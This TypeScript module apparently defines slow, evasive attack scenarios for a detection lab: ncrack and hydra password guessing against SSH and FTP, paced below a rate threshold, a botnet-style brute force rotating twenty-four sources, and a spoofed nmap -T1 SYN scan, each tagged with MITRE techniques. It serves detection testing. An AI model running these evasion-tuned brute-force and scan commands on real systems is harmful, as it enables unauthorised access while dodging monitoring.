import { setTimeout as delay } from 'node:timers/promises';
import type { Scenario, ScenarioContext } from '../scenario.js';
import { guesses, HYDRA, list } from './brute-force.js';

/** Seconds between two guesses of one source: all of them stay below ten in five minutes. */
const EVERY_SECS = { slow: 48, normal: 40, fast: 33 };
const GUESSES = 66;

/** Those who share the guessing take turns: seconds between two guesses at the target, and how many of both. */
const TURN_SECS = { slow: 14, normal: 11, fast: 9 };
const TURNS = { sources: 24, guesses: 120 };

/** nmap -T1 waits fifteen seconds after each probe. */
const SNEAKY_PORTS = { slow: '20-59', normal: '20-49', fast: '20-39' };

/** ncrack now and then waits twice as long: a run is cut only after this many times what it should take. */
const SLACK = 2;

function facts(context: ScenarioContext, label: string, source: string, technique = 'T1110.001') {
  return { label, technique, sources: [source], targets: [context.victim.ip4] };
}

/** ncrack's own delay between connections, one guess in each. */
const ssh: Scenario = {
  name: 'patient-ssh',
  summary: 'ncrack guesses one SSH password a connection, less than one in half a minute',
  kind: 'attack',
  services: ['ssh'],
  isLong: true,
  run: async (context) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const passwords = list(context, 'passwords', guesses(context, GUESSES));
    const every = context.at(EVERY_SECS);
    const pace = ['-g', `CL=1,at=1,cd=${every}`];
    const args = ['--user', 'alice', '-P', passwords, ...pace, `ssh://${context.victim.ip4}`];
    const options = { cwd: context.lab.dir, limitSecs: SLACK * GUESSES * every };
    await context.attack(facts(context, 'ssh_brute_force', source), 'attacker', 'ncrack', args, options);
  },
};

/** hydra's own delay between attempts. */
const ftp: Scenario = {
  name: 'patient-ftp',
  summary: 'hydra guesses FTP passwords of one account, less than one in half a minute',
  kind: 'attack',
  services: ['ftp'],
  isLong: true,
  run: async (context) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const passwords = list(context, 'passwords', guesses(context, GUESSES));
    const every = context.at(EVERY_SECS);
    const args = [...HYDRA, '-l', 'alice', '-P', passwords, '-t', '1', '-c', String(every), context.victim.ip4, 'ftp'];
    const options = { cwd: context.lab.dir, limitSecs: SLACK * GUESSES * every };
    await context.attack(facts(context, 'ftp_brute_force', source), 'attacker', 'hydra', args, options);
  },
};

/** As botnets guess: each source tries once and comes back when all others had their turn. */
const turns: Scenario = {
  name: 'patient-turns',
  summary: 'twenty-four sources take turns at one account, hydra, ssh: each guesses once in minutes',
  kind: 'attack',
  services: ['ssh'],
  isLong: true,
  run: async (context) => {
    const sources = context.attackers(TURNS.sources);
    const everyMs = 1000 * context.at(TURN_SECS);
    const startMs = Date.now();
    for (const [i, password] of guesses(context, TURNS.guesses).entries()) {
      await delay(Math.max(0, startMs + i * everyMs - Date.now()));
      const source = sources[i % sources.length]!;
      context.useSource('attacker', source);
      const args = [...HYDRA, '-l', 'alice', '-p', password, '-t', '1', context.victim.ip4, 'ssh'];
      await context.attack(facts(context, 'distributed_brute_force', source), 'attacker', 'hydra', args, {
        cwd: context.lab.dir,
      });
    }
  },
};

const sneaky: Scenario = {
  name: 'scan-sneaky',
  summary: 'TCP SYN scan with -T1: a probe every fifteen seconds',
  kind: 'attack',
  services: ['web', 'ssh'],
  isLong: true,
  run: async (context) => {
    const [source = ''] = context.attackers();
    const ports = context.at(SNEAKY_PORTS);
    const args = ['-n', '-Pn', '-sS', '-T1', '-p', ports, '-S', source, '-e', 'eth0', context.victim.ip4];
    await context.attack(facts(context, 'port_scan', source, 'T1046'), 'attacker', 'nmap', args, { limitSecs: 1200 });
  },
};

/** Attackers who take their time, in real time: minutes to an hour. */
export const patient: readonly Scenario[] = [ssh, ftp, turns, sneaky];
